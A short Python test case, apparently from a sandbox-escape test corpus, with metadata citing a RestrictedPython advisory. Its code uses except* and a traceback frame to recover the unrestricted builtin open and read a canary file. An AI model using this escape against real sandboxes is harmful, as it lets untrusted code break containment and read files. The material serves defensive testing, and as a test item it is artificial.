# id: exception-group-except-star
# family: exceptions
# kind: escape
# invariant: D, E
# origin: RestrictedPython advisory CVE-2025-22153
# technique: except* binds a group, and its exceptions tuple hands out the originals that guards for plain except never saw
# needs: 3.11+
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import json

try:
    json.loads("")
except* ValueError as group:
    traceback = group.exceptions[0].__traceback__.tb_next
    print(traceback.tb_frame.f_builtins["open"]("canary.txt").read())
